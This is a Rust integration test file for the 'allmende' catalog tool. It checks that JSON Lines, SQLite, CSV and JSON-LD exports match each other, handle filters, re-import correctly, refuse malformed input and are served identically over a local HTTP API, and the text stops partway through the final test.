#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Streaming exports: JSON Lines re-imports to the same catalog, the SQLite snapshot answers
//! the documented example queries exactly as `allmende query` does, CSV has one file per
//! table with the same rows, JSON-LD describes every product; every export states its
//! licence, exporter, time and verified organisations; bad imports are refused by line.

use std::path::Path;

mod common;
use common::{allmende, ok};

/// A small catalog: two products, a deployment, a rating, a Nachnutzung report, a delegation
/// and an attestation by the node itself acting as trust anchor.
fn catalog(dir: &Path) -> String {
    ok(
        dir,
        &[
            "init",
            "--name",
            "Stadt Export",
            "--kind",
            "kommune",
            "--ags",
            "05315000",
            "--population",
            "1000000",
        ],
    );
    ok(
        dir,
        &[
            "product",
            "add",
            "--name",
            "Bauportal",
            "--vendor",
            "Muster, \"GmbH\"",
            "--kind",
            "onlinedienst",
            "--licence",
            "EUPL-1.2",
            "--standard",
            "XBau",
            "--task",
            "99009001001000",
        ],
    );
    ok(
        dir,
        &[
            "product",
            "add",
            "--name",
            "Hundesteuer",
            "--vendor",
            "Y",
            "--kind",
            "fachverfahren",
            "--new",
        ],
    );
    let id = ok(dir, &["product", "list"])
        .lines()
        .find(|l| l.contains("Bauportal"))
        .and_then(|l| l.split_whitespace().next())
        .unwrap()
        .to_owned();
    ok(
        dir,
        &[
            "deployment",
            "add",
            "--product",
            &id,
            "--status",
            "production",
            "--cost-yearly",
            "4800",
        ],
    );
    ok(
        dir,
        &[
            "rating",
            "set",
            "--product",
            &id,
            "--functionality",
            "4",
            "--usability",
            "5",
            "--recommend",
            "ja",
        ],
    );
    ok(
        dir,
        &[
            "reuse",
            "add",
            "--product",
            &id,
            "--outcome",
            "production",
            "--efa",
            "--effort-days",
            "15",
        ],
    );
    ok(
        dir,
        &[
            "key",
            "delegate",
            "--to",
            "06e6ad7f6f775ddef8e0afec96d2693b95382fc407990bdfba905384648bef1b",
            "--days",
            "30",
        ],
    );
    let org = ok(dir, &["key", "export-public"])
        .lines()
        .nth(1)
        .unwrap()
        .trim_start_matches("org ")
        .to_owned();
    ok(
        dir,
        &[
            "trust",
            "attest",
            "--org",
            &org,
            "--name",
            "Stadt Export",
            "--kind",
            "kommune",
            "--ags",
            "05315000",
        ],
    );
    org
}

/// The readable catalog of a JSON export (everything but when and by whom).
fn catalog_of(dir: &Path) -> serde_json::Value {
    let v: serde_json::Value =
        serde_json::from_str(&ok(dir, &["export", "--format", "json"])).unwrap();
    v["catalog"].clone()
}

#[test]
fn jsonl_round_trips_to_the_same_catalog_and_states_its_provenance() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    let org = catalog(&src);
    let file = tmp.path().join("catalog.jsonl");
    let said = ok(
        &src,
        &[
            "export",
            "--format",
            "jsonl",
            "--out",
            file.to_str().unwrap(),
        ],
    );
    assert!(said.contains("Exported"), "{said}");
    let text = std::fs::read_to_string(&file).unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["type"], "meta");
    assert!(
        lines[0]["licence"]
            .as_str()
            .unwrap()
            .contains("dl-de/zero-2-0")
    );
    assert_eq!(lines[0]["exported_by"], org.as_str());
    assert!(lines[0]["exported_at"].as_str().unwrap().ends_with('Z'));
    // The reference data's sources travel with the export, with their attribution.
    let sources = lines[0]["sources"].as_array().unwrap();
    assert!(sources.iter().any(|s| {
        s.as_str()
            .unwrap()
            .contains("Statistisches Bundesamt (Destatis), 2021")
    }));
    assert!(
        sources
            .iter()
            .any(|s| s.as_str().unwrap().contains("OZG-Datenbank NRW"))
    );
    let count = |t: &str| lines.iter().filter(|l| l["type"] == t).count();
    assert_eq!(
        (
            count("product"),
            count("deployment"),
            count("rating"),
            count("reuse_report")
        ),
        (2, 1, 1, 1)
    );
    assert_eq!(count("certificate"), 1);
    assert!(count("document") >= 4);
    let product = lines
        .iter()
        .find(|l| l["type"] == "product" && l["name"] == "Bauportal")
        .unwrap();
    assert_eq!(product["licence"], "EUPL-1.2");
    // Re-import into an empty node: the same catalog.
    let dst = tmp.path().join("dst");
    let imported = ok(
        &dst,
        &["import", "--format", "jsonl", file.to_str().unwrap()],
    );
    assert!(imported.contains("1 new certificates"), "{imported}");
    assert_eq!(catalog_of(&dst), catalog_of(&src));
    // Importing again stores nothing new.
    assert!(
        ok(
            &dst,
            &["import", "--format", "jsonl", file.to_str().unwrap()]
        )
        .contains(" 0 new signed changes")
    );
}

#[test]
fn the_sqlite_snapshot_answers_the_documented_queries_like_allmende_query() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    let org = catalog(&src);
    let snap = tmp.path().join("catalog.sqlite");
    ok(
        &src,
        &[
            "--config",
            "/dev/null",
            "export",
            "--format",
            "sqlite",
            "--out",
            snap.to_str().unwrap(),
        ],
    );
    assert!(!Path::new(&format!("{}.partial", snap.display())).exists());
    // Exporting over an existing file is refused.
    assert!(
        !allmende(
            &src,
            &[
                "export",
                "--format",
                "sqlite",
                "--out",
                snap.to_str().unwrap()
            ]
        )
        .status
        .success()
    );
    let conn =
        rusqlite::Connection::open_with_flags(&snap, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/sql.md"))
        .unwrap();
    let mut checked = 0;
    for block in doc.split("```sql\n").skip(1) {
        let sql = block.split("```").next().unwrap();
        let live: serde_json::Value =
            serde_json::from_str(&ok(&src, &["query", sql, "--format", "json"])).unwrap();
        let mut stmt = conn.prepare(sql).unwrap();
        let n = stmt.column_count();
        let rows: Vec<Vec<serde_json::Value>> = stmt
            .query_map([], |r| {
                (0..n)
                    .map(|i| {
                        Ok(match r.get_ref(i)? {
                            rusqlite::types::ValueRef::Null => serde_json::Value::Null,
                            rusqlite::types::ValueRef::Integer(v) => v.into(),
                            rusqlite::types::ValueRef::Real(v) => v.into(),
                            rusqlite::types::ValueRef::Text(t) => {
                                String::from_utf8_lossy(t).into_owned().into()
                            }
                            rusqlite::types::ValueRef::Blob(b) => hex::encode(b).into(),
                        })
                    })
                    .collect()
            })
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(serde_json::json!(rows), live["rows"], "{sql}");
        checked += 1;
    }
    assert!(checked >= 5);
    let meta: String = conn
        .query_row(
            "SELECT value FROM metadata WHERE key = 'licence'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(meta.contains("dl-de/zero-2-0"));
    // The reference data travels whole: the Gemeindeverzeichnis, task names, coverage.
    let gemeinden: i64 = conn
        .query_row("SELECT count(*) FROM gemeinden", [], |r| r.get(0))
        .unwrap();
    assert_eq!(gemeinden, 10_997);
    let kreise: i64 = conn
        .query_row("SELECT count(*) FROM coverage_kreise", [], |r| r.get(0))
        .unwrap();
    assert_eq!(kreise, 400);
    let name: String = conn
        .query_row(
            "SELECT name FROM tasks WHERE task = '99012001000000'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(name, "Abbruchgenehmigung");
    let by: String = conn
        .query_row(
            "SELECT value FROM metadata WHERE key = 'exported_by'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(by, org);
    // Without a followed anchor nobody is verified; with this node as anchor, it is.
    let none: i64 = conn
        .query_row("SELECT count(*) FROM verified_organisations", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(none, 0);
    let snap2 = tmp.path().join("anchored.sqlite");
    let cfg = tmp.path().join("allmende.toml");
    std::fs::write(&cfg, format!("[trust]\nanchors = [\"{org}\"]\n")).unwrap();
    ok(
        &src,
        &[
            "--config",
            cfg.to_str().unwrap(),
            "export",
            "--format",
            "sqlite",
            "--out",
            snap2.to_str().unwrap(),
        ],
    );
    let conn2 = rusqlite::Connection::open(&snap2).unwrap();
    let verified: String = conn2
        .query_row("SELECT org FROM verified_organisations", [], |r| r.get(0))
        .unwrap();
    assert_eq!(verified, org);
}

#[test]
fn csv_and_jsonld_describe_the_same_catalog() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    catalog(&src);
    let dir = tmp.path().join("csv");
    ok(
        &src,
        &["export", "--format", "csv", "--out", dir.to_str().unwrap()],
    );
    for (view, _, _) in allmende_node::sql::VIEWS {
        let text = std::fs::read_to_string(dir.join(format!("{view}.csv"))).unwrap();
        let rows = text.split("\r\n").filter(|l| !l.is_empty()).count() - 1;
        let live: serde_json::Value = serde_json::from_str(&ok(
            &src,
            &[
                "query",
                &format!("SELECT count(*) FROM {view}"),
                "--format",
                "json",
            ],
        ))
        .unwrap();
        assert_eq!(serde_json::json!(rows), live["rows"][0][0], "{view}");
    }
    let products = std::fs::read_to_string(dir.join("products.csv")).unwrap();
    assert!(
        products.starts_with("id,name,vendor,kind,licence,open_source,created_by,same_as\r\n"),
        "{products}"
    );
    assert!(products.contains("\"Muster, \"\"GmbH\"\"\""), "{products}");
    let meta: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.join("metadata.json")).unwrap()).unwrap();
    assert!(meta["meta"]["licence"].as_str().unwrap().contains("Zero"));
    // Into a non-empty directory: refused.
    let again = allmende(
        &src,
        &["export", "--format", "csv", "--out", dir.to_str().unwrap()],
    );
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("not empty"));

    let ld: serde_json::Value =
        serde_json::from_str(&ok(&src, &["export", "--format", "jsonld"])).unwrap();
    assert_eq!(ld["@type"], "dcat:Catalog");
    assert_eq!(
        ld["dct:license"]["@id"],
        "https://www.govdata.de/dl-de/zero-2-0"
    );
    let set = ld["dcat:dataset"].as_array().unwrap();
    assert_eq!(set.len(), 2);
    let bau = set
        .iter()
        .find(|p| p["schema:name"] == "Bauportal")
        .unwrap();
    assert_eq!(
        bau["@type"],
        serde_json::json!(["schema:SoftwareApplication", "adms:Asset"])
    );
    assert_eq!(
        bau["schema:license"]["@id"],
        "https://spdx.org/licenses/EUPL-1.2"
    );
    assert_eq!(bau["allmende:deployments"], 1);
    assert_eq!(bau["allmende:reuseReports"], 1);
    assert_eq!(bau["schema:aggregateRating"]["schema:ratingValue"], 4.5);
}

#[test]
fn bad_jsonl_imports_are_refused_with_the_line() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("src");
    catalog(&src);
    let good = ok(&src, &["export", "--format", "jsonl"]);
    let meta = good.lines().next().unwrap().to_owned();
    let doc_line = good
        .lines()
        .find(|l| l.contains("\"type\":\"document\""))
        .unwrap()
        .to_owned();
    let cases: Vec<(String, &str)> = vec![
        (String::new(), "empty"),
        (doc_line.clone(), "meta line"),
        (format!("{meta}\nnot json\n"), "line 2"),
        (
            meta.replace("allmende-export-stream", "etwas-anderes"),
            "etwas-anderes",
        ),
        (
            format!(
                "{meta}\n{}\n",
                doc_line.replace("\"changes\":[\"", "\"changes\":[\"zz")
            ),
            "line 2",
        ),
        (
            format!(
                "{meta}\n{}\n",
                doc_line.replace("\"header\":\"", "\"header\":\"00")
            ),
            "line 2",
        ),
    ];
    for (i, (text, needle)) in cases.iter().enumerate() {
        let file = tmp.path().join(format!("bad{i}.jsonl"));
        std::fs::write(&file, text).unwrap();
        let dst = tmp.path().join(format!("dst{i}"));
        let out = allmende(
            &dst,
            &["import", "--format", "jsonl", file.to_str().unwrap()],
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "case {i}: {err}");
        assert!(err.contains(needle), "case {i}: {err:?} lacks {needle:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Filtered exports and exports over the API.

mod filtered {
    use std::collections::BTreeSet;
    use std::net::SocketAddr;
    use std::path::Path;

    use allmende_node::datadir::DataDir;
    use allmende_node::store::Store;
    use allmende_protocol::doc::{DocHeader, DocKind, Record};
    use allmende_protocol::identity::Keypair;
    use allmende_protocol::ids::OrgId;
    use allmende_protocol::schema::{
        Attestation, Deployment, OrgProfile, Product, Rating, ReuseReport, UnixTime,
    };
    use serde_json::{Value, json};

    use super::common::{allmende, ok};

    const LAND: u8 = 0x11;
    const KOELN: u8 = 0x22;
    const MUSTERHAUSEN: u8 = 0x33;
    const MUENCHEN: u8 = 0x44;
    const BAU: [u8; 16] = [0xb1; 16];
    const MELDE: [u8; 16] = [0xb2; 16];
    const HUND: [u8; 16] = [0xb3; 16];
    pub const BAU_TASK: &str = "99009001001000";

    fn key(seed: u8) -> Keypair {
        Keypair::from_secret_bytes(&[seed; 32]).unwrap()
    }

    pub fn org(seed: u8) -> String {
        format!("{:#}", OrgId::from_root_key(key(seed).public()))
    }

    fn org_id(seed: u8) -> OrgId {
        OrgId::from_root_key(key(seed).public())
    }

    fn product_header(seed: u8, nonce: [u8; 16]) -> DocHeader {
        DocHeader::product(org_id(seed), nonce)
    }

    pub fn product(seed: u8, nonce: [u8; 16]) -> String {
        format!("{:#}", product_header(seed, nonce).id())
    }

    pub fn bau() -> String {
        product(LAND, BAU)
    }
    pub fn melde() -> String {
        product(KOELN, MELDE)
    }
    pub fn hund() -> String {
        product(MUENCHEN, HUND)
    }

    fn put<S: Store, T: Record>(
        repo: &mut allmende_node::repo::Repo<S>,
        seed: u8,
        header: DocHeader,
        k: Option<String>,
        record: Value,
    ) {
        let record: T = serde_json::from_value(record).unwrap();
        repo.edit(&key(seed), header, UnixTime(1_700_000_000), |ed| match k {
            Some(k) => ed.put(&k, &record),
            None => ed.put_root(&record),
        })
        .unwrap();
    }

    /// A catalog with known contents: four organisations (three in NRW, attested by the Land;
    /// München in Bayern, not attested), three products, and records across them:
    ///
    /// | record | by | about |
    /// |---|---|---|
    /// | deployment d1 | Köln | Bauantrag |
    /// | deployment d2 | Köln | Meldewesen |
    /// | deployment d3 | Musterhausen | Bauantrag |
    /// | deployment d4 | München | Hundesteuer |
    /// | deployment d5 | München | Bauantrag |
    /// | rating | Köln | Bauantrag |
    /// | rating | München | Hundesteuer |
    /// | reuse r1 | Musterhausen | Bauantrag (provider: the Land) |
    /// | reuse r2 | München | Meldewesen |
    pub fn build(dir: &Path) {
        let dd = DataDir::new(dir.to_owned());
        dd.create_identity().unwrap();
        let mut repo = dd.open_repo().unwrap();
        let r = &mut repo;
        for (seed, profile) in [
            (
                LAND,
                json!({"name": "Land NRW", "kind": "land", "land": "05"}),
            ),
            (
                KOELN,
                json!({"name": "Stadt Köln", "kind": "kommune", "ags": "05315000", "land": "05", "population": 1_084_000}),
            ),
            (
                MUSTERHAUSEN,
                json!({"name": "Musterhausen", "kind": "kommune", "ags": "05358008", "land": "05", "population": 12_000}),
            ),
            (
                MUENCHEN,
                json!({"name": "München", "kind": "kommune", "ags": "09162000", "land": "09", "population": 1_500_000}),
            ),
        ] {
            put::<_, OrgProfile>(
                r,
                seed,
                DocHeader::singleton(DocKind::Profile, org_id(seed)),
                None,
                profile,
            );
        }
        for seed in [KOELN, MUSTERHAUSEN] {
            let o = org(seed);
            put::<_, Attestation>(
                r,
                LAND,
                DocHeader::singleton(DocKind::Trust, org_id(LAND)),
                Some(o.clone()),
                json!({"org": o, "name": "Kommune", "kind": "kommune", "attested_at": 1_700_000_000}),
            );
        }
        put::<_, Product>(
            r,
            LAND,
            product_header(LAND, BAU),
            None,
            json!({
                "name": "Bauantrag Online", "vendor": "Land NRW", "kind": "onlinedienst",
                "tasks": [BAU_TASK], "licence": "EUPL-1.2", "standards": ["XBau"]
            }),
        );
        put::<_, Product>(
            r,
            KOELN,
            product_header(KOELN, MELDE),
            None,
            json!({
                "name": "Meldewesen Plus", "vendor": "Beispiel GmbH", "kind": "fachverfahren",
                "tasks": ["99115001001000"], "licence": "LicenseRef-proprietary", "standards": ["XMeld"]
            }),
        );
        put::<_, Product>(
            r,
            MUENCHEN,
            product_header(MUENCHEN, HUND),
            None,
            json!({
                "name": "Hundesteuer", "vendor": "Y", "kind": "fachverfahren", "licence": "EUPL-1.2"
            }),
        );
        let dep = |seed| DocHeader::singleton(DocKind::Deployments, org_id(seed));
        for (seed, k, p, status) in [
            (KOELN, "d1", bau(), "production"),
            (KOELN, "d2", melde(), "production"),
            (MUSTERHAUSEN, "d3", bau(), "pilot"),
            (MUENCHEN, "d4", hund(), "production"),
            (MUENCHEN, "d5", bau(), "planned"),
        ] {
            let key = format!(
                "{:0>32}",
                k.as_bytes()
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect::<String>()
            );
            put::<_, Deployment>(
                r,
                seed,
                dep(seed),
                Some(key),
                json!({"product": p, "status": status, "operated_by": {"by": "self"}}),
            );
        }
        let exp = |seed| DocHeader::singleton(DocKind::Experience, org_id(seed));
        for (seed, p) in [(KOELN, bau()), (MUENCHEN, hund())] {
            put::<_, Rating>(
                r,
                seed,
                exp(seed),
                Some(p.clone()),
                json!({"product": p, "scores": {"functionality": 4}, "recommend": true}),
            );
        }
        put::<_, ReuseReport>(
            r,
            MUSTERHAUSEN,
            exp(MUSTERHAUSEN),
            Some(format!("{:0>32}", "7231")),
            json!({
                "product": bau(), "provider": org(LAND), "efa": true, "outcome": "production"
            }),
        );
        put::<_, ReuseReport>(
            r,
            MUENCHEN,
            exp(MUENCHEN),
            Some(format!("{:0>32}", "7232")),
            json!({
                "product": melde(), "efa": false, "outcome": "abandoned"
            }),
        );
    }

    /// The lines of a JSON Lines export.
    pub fn lines(text: &str) -> Vec<Value> {
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// The values of `field` of the lines of type `t`, sorted.
    pub fn ids(lines: &[Value], t: &str, field: &str) -> Vec<String> {
        let mut v: Vec<String> = lines
            .iter()
            .filter(|l| l["type"] == t)
            .map(|l| l[field].as_str().unwrap().to_owned())
            .collect();
        v.sort();
        v
    }

    fn sorted(mut v: Vec<String>) -> Vec<String> {
        v.sort();
        v
    }

    pub fn export(dir: &Path, args: &[&str]) -> String {
        let mut all = vec!["export", "--format", "jsonl"];
        all.extend_from_slice(args);
        ok(dir, &all)
    }

    /// Everything but the meta line.
    fn body(text: &str) -> Vec<String> {
        text.lines().skip(1).map(str::to_owned).collect()
    }

    #[test]
    fn a_product_filter_exports_those_products_with_every_record_about_them() {
        let tmp = tempfile::tempdir().unwrap();
        build(tmp.path());
        let l = lines(&export(tmp.path(), &["--task", BAU_TASK]));
        assert_eq!(l[0]["type"], "meta");
        assert_eq!(l[0]["filter"], json!({"facets": {"task": [BAU_TASK]}}));
        assert_eq!(ids(&l, "product", "id"), vec![bau()]);
        assert_eq!(
            ids(&l, "deployment", "org"),
            sorted(vec![org(KOELN), org(MUSTERHAUSEN), org(MUENCHEN)])
        );
        assert!(
            l.iter()
                .filter(|x| x["type"] == "deployment")
                .all(|x| x["product"] == bau())
        );
        assert_eq!(ids(&l, "rating", "org"), vec![org(KOELN)]);
        assert_eq!(ids(&l, "reuse_report", "org"), vec![org(MUSTERHAUSEN)]);
        // The organisations these name: record owners, the creator and the provider (Land).
        assert_eq!(
            ids(&l, "organisation", "id"),
            sorted(vec![
                org(LAND),
                org(KOELN),
                org(MUSTERHAUSEN),
                org(MUENCHEN)
            ])
        );
        assert_eq!(
            ids(&l, "attestation", "org"),
            sorted(vec![org(KOELN), org(MUSTERHAUSEN)])
        );
        // Signed material: the product, four profiles, three deployment documents, two
        // experience documents (Köln, Musterhausen) and the Land's trust document.
        assert_eq!(l.iter().filter(|x| x["type"] == "document").count(), 11);
        let kinds: Vec<String> = ids(&l, "document", "kind");
        assert_eq!(kinds.iter().filter(|k| *k == "product").count(), 1);
        // The whole catalog has more of everything.
        let all = lines(&export(tmp.path(), &[]));
        assert!(all[0].get("filter").is_none(), "{}", all[0]);
        assert_eq!(ids(&all, "product", "id").len(), 3);
        assert_eq!(ids(&all, "deployment", "key").len(), 5);
    }

    #[test]
    fn organisation_filters_restrict_the_records_and_combine_with_product_filters() {
        let tmp = tempfile::tempdir().unwrap();
        build(tmp.path());
        // München only: its records and the products they are about.
        let l = lines(&export(tmp.path(), &["--land", "09"]));
        assert_eq!(l[0]["filter"], json!({"land": "09"}));
        assert_eq!(
            ids(&l, "product", "id"),
            sorted(vec![bau(), melde(), hund()])
        );
        assert_eq!(
            ids(&l, "deployment", "org"),
            vec![org(MUENCHEN), org(MUENCHEN)]
        );
        assert_eq!(ids(&l, "rating", "product"), vec![hund()]);
        assert_eq!(ids(&l, "reuse_report", "product"), vec![melde()]);
        // München and the creators of the products (the Land, Köln).
        assert_eq!(
            ids(&l, "organisation", "id"),
            sorted(vec![org(LAND), org(KOELN), org(MUENCHEN)])
        );
        // Köln's records about Bauantrag, by Kreis.
        let l = lines(&export(
            tmp.path(),
            &["--task", BAU_TASK, "--kreis", "05315"],
        ));
        assert_eq!(ids(&l, "product", "id"), vec![bau()]);
        assert_eq!(ids(&l, "deployment", "org"), vec![org(KOELN)]);
        assert_eq!(ids(&l, "rating", "org"), vec![org(KOELN)]);
        assert!(ids(&l, "reuse_report", "org").is_empty());
        assert_eq!(
            ids(&l, "organisation", "id"),
            sorted(vec![org(LAND), org(KOELN)])
        );
        // By organisation id, two of them (OR), and a product facet that matches nothing.
        let l = lines(&export(
            tmp.path(),
            &["--org", &org(KOELN), "--org", &org(MUSTERHAUSEN)],
        ));
        assert_eq!(ids(&l, "deployment", "key").len(), 3);
        assert_eq!(ids(&l, "product", "id"), sorted(vec![bau(), melde()]));
        let l = lines(&export(tmp.path(), &["--standard", "XÖV-Nichts"]));
        assert_eq!(l.len(), 1, "only the meta line: {l:?}");
    }

    #[test]
    fn csv_and_sqlite_of_a_filtered_view_hold_the_same_rows_as_jsonl() {
        let tmp = tempfile::tempdir().unwrap();
        let src = tmp.path().join("src");
        build(&src);
        let filter = ["--land", "05", "--licence", "EUPL-1.2"];
        let l = lines(&export(&src, &filter));
        let dir = tmp.path().join("csv");
        let snap = tmp.path().join("x.sqlite");
        let mut args = vec!["export", "--format", "csv", "--out", dir.to_str().unwrap()];
        args.extend(filter);
        ok(&src, &args);
        let mut args = vec![
            "export",
            "--format",
            "sqlite",
            "--out",
            snap.to_str().unwrap(),
        ];
        args.extend(filter);
        ok(&src, &args);
        let conn = rusqlite::Connection::open(&snap).unwrap();
        let meta: Value =
            serde_json::from_str(&std::fs::read_to_string(dir.join("metadata.json")).unwrap())
                .unwrap();
        assert_eq!(meta["meta"]["filter"], l[0]["filter"]);
        let filter_row: String = conn
            .query_row("SELECT value FROM metadata WHERE key = 'filter'", [], |r| {
                r.get(0)
            })
            .unwrap();
        assert_eq!(
            serde_json::from_str::<Value>(&filter_row).unwrap(),
            l[0]["filter"]
        );
        for (table, t) in [
            ("organisations", "organisation"),
            ("products", "product"),
            ("deployments", "deployment"),
            ("ratings", "rating"),
            ("reuse_reports", "reuse_report"),
            ("product_facets", "product_facet"),
            ("attestations", "attestation"),
        ] {
            let n = l.iter().filter(|x| x["type"] == t).count();
            let rows: i64 = conn
                .query_row(&format!("SELECT count(*) FROM {table}"), [], |r| r.get(0))
                .unwrap();
            let rows = rows as usize;
            let csv = std::fs::read_to_string(dir.join(format!("{table}.csv"))).unwrap();
            assert_eq!((rows, csv.lines().count() - 1), (n, n), "{table}");
        }
        // NRW organisations' records about the EUPL products (Bauantrag only: Hundesteuer is
        // used in Bayern alone).
        assert_eq!(ids(&l, "product", "id"), vec![bau()]);
        assert_eq!(ids(&l, "deployment", "key").len(), 2);
    }

    #[test]
    fn a_filtered_jsonl_export_reimports_to_exactly_that_subset() {
        for filter in [
            vec!["--task", BAU_TASK],
            vec!["--land", "09"],
            vec!["--q", "Meldewesen"],
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let src = tmp.path().join("src");
            build(&src);
            let text = export(&src, &filter);
            let file = tmp.path().join("subset.jsonl");
            std::fs::write(&file, &text).unwrap();
            let dst = tmp.path().join("dst");
            ok(
                &dst,
                &["import", "--format", "jsonl", file.to_str().unwrap()],
            );
            // The new store holds exactly the exported documents and certificates …
            let whole = export(&dst, &[]);
            let signed = |t: &str| -> BTreeSet<String> {
                t.lines()
                    .filter(|l| {
                        l.contains("\"type\":\"document\"")
                            || l.contains("\"type\":\"certificate\"")
                    })
                    .map(str::to_owned)
                    .collect()
            };
            assert_eq!(signed(&whole), signed(&text), "{filter:?}");
            // … and the same filter over it gives the same records.
            assert_eq!(body(&export(&dst, &filter)), body(&text), "{filter:?}");
        }
    }

    #[test]
    fn bad_filters_are_refused_before_anything_is_written() {
        let tmp = tempfile::tempdir().unwrap();
        let src = tmp.path().join("src");
        build(&src);
        let out = tmp.path().join("never.jsonl");
        for (args, says) in [
            (vec!["--land", "99"], "land"),
            (vec!["--kreis", "0531"], "kreis must be five digits"),
            (vec!["--org", "koeln"], "org"),
            (vec!["--kind", "rakete"], "rakete"),
            (
                vec!["--verified", "vielleicht"],
                "verified must be true or false",
            ),
            (vec!["--open-source", "ja"], "open_source must be yes or no"),
            (vec!["--task", " "], "task is empty"),
        ] {
            let mut all = vec![
                "export",
                "--format",
                "jsonl",
                "--out",
                out.to_str().unwrap(),
            ];
            all.extend(&args);
            let o = allmende(&src, &all);
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(!o.status.success() && err.contains(says), "{args:?}: {err}");
            assert!(!out.exists() && !Path::new(&format!("{}.partial", out.display())).exists());
        }
        let o = allmende(&src, &["export", "--format", "json", "--task", BAU_TASK]);
        assert!(!o.status.success(), "the JSON export is never filtered");
    }

    /// One HTTP/1.1 GET; returns status, lowercase head and body bytes (chunked decoded).
    fn get(addr: SocketAddr, path: &str) -> (u16, String, Vec<u8>) {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
            .unwrap();
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut raw = Vec::new();
        s.read_to_end(&mut raw).unwrap();
        let split = raw.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
        let head = String::from_utf8_lossy(&raw[..split]).to_lowercase();
        let mut rest = &raw[split + 4..];
        let code = head.split_whitespace().nth(1).unwrap().parse().unwrap();
        if !head.contains("transfer-encoding: chunked") {
            return (code, head, rest.to_vec());
        }
        let mut body = Vec::new();
        loop {
            let end = rest.windows(2).position(|w| w == b"\r\n").unwrap();
            let size = usize::from_str_radix(std::str::from_utf8(&rest[..end]).unwrap().trim(), 16)
                .unwrap();
            if size == 0 {
                break;
            }
            body.extend_from_slice(&rest[end + 2..end + 2 + size]);
            rest = &rest[end + 2 + size + 2..];
        }
        (code, head, body)
    }

    fn without_time(mut v: Value) -> Value {
        if let Some(o) = v.as_object_mut() {
            o.remove("exported_at");
            o.remove("dct:issued");
        }
        v
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_api_streams_the_same_exports_as_the_command_line() {
        let tmp = tempfile::tempdir().unwrap();
        let src = tmp.path().join("src");
        build(&src);
        let q = format!("task={BAU_TASK}&land=05");
        let cli_args = ["--task", BAU_TASK, "--land", "05"];
        let jsonl = export(&src, &cli_args);
        let mut a = vec!["export", "--format", "jsonld"];
        a.extend(cli_args);
        let jsonld = ok(&src, &a);
        let csv_dir = tmp.path().join("csv");
        let mut a = vec![
            "export",
            "--format",
            "csv",
            "--out",
            csv_dir.to_str().unwrap(),
        ];
        a.extend(cli_args);
        ok(&src, &a);
        let snap = tmp.path().join("cli.sqlite");
        let mut a = vec![
            "export",
            "--format",
            "sqlite",
            "--out",
            snap.to_str().unwrap(),
        ];
        a.extend(cli_args);
        ok(&src, &a);

        let node = allmende_node::node::Node::spawn(allmende_node::node::NodeConfig {
            data_dir: src.clone(),
            identity_file: None,
            net: allmende_node::net::NetConfig {
                listen: vec!["/ip4/127.0.0.1/tcp/0".parse().unwrap()],
                mdns: false,
                ..Default::default()
            },
            http: Some(SocketAddr::from(([127, 0, 0, 1], 0))),
            trust_anchors: vec![],
            quarantine: Default::default(),
            demo: false,
        })
        .await
        .unwrap();
        let addr = node.http_addr.unwrap();
        let snap_api = tmp.path().join("api.sqlite");
        let snap_api2 = snap_api.clone();
        let src2 = src.clone();
        tokio::task::spawn_blocking(move || {
            // JSON Lines: the same lines, the meta line apart from its time.
            let (code, head, body) = get(addr, &format!("/api/v1/export?format=jsonl&{q}"));
            assert_eq!(code, 200, "{}", String::from_utf8_lossy(&body));
            assert!(
                head.contains("content-type: application/x-ndjson"),
                "{head}"
            );
            assert!(
                head.contains(
                    "content-disposition: attachment; filename=\"allmende-export.jsonl\""
                ),
                "{head}"
            );
            assert!(!head.contains("etag"), "{head}");
            let body = String::from_utf8(body).unwrap();
            assert_eq!(
                body.lines().skip(1).collect::<Vec<_>>(),
                jsonl.lines().skip(1).collect::<Vec<_>>()
            );
            let (m_api, m_cli) = (lines(&body).remove(0), lines(&jsonl).remove(0));
            assert_eq!(without_time(m_api), without_time(m_cli));
            // JSON-LD: the same document apart from its time.
            let (code, head, body) = get(addr, &format!("/api/v1/export?format=jsonld&{q}"));
            assert_eq!(code, 200);
            assert!(head.contains("content-type: application/ld+json"), "{head}");
            let api: Value = serde_json::from_slice(&body).unwrap();
            let cli: Value = serde_json::from_str(&jsonld).unwrap();
            assert_eq!(without_time(api), without_time(cli));
            // CSV: each table the file of the CSV directory, byte for byte.
            for (table, _, _) in allmende_node::sql::VIEWS {
                let (code, head, body) = get(
                    addr,
                    &format!("/api/v1/export?format=csv&table={table}&{q}"),
                );
                assert_eq!(code, 200, "{table}");
                assert!(
                    head.contains("content-type: text/csv; charset=utf-8"),
                    "{head}"
                );
                assert!(
                    head.contains(&format!("filename=\"{table}.csv\"")),
                    "{head}"
                );
                assert_eq!(
                    body,
                    std::fs::read(csv_dir.join(format!("{table}.csv"))).unwrap(),
                    "{table}"
                );
            }
